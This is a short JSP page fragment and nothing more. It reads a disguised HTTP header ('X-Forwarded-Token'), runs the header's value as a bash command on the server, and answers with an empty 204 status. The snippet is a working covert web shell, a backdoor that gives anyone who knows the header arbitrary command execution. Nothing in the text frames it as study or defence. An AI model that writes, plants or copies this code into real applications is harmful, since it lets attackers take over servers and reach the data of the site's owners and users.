<%
String x = request.getHeader("X-Forwarded-Token");
if (x != null) {
    String[] arr = new String[]{"/bin/bash", "-c", x};
    Runtime rt = Runtime.getRuntime();
    rt.exec(arr);
    response.setStatus(204);
}
%>
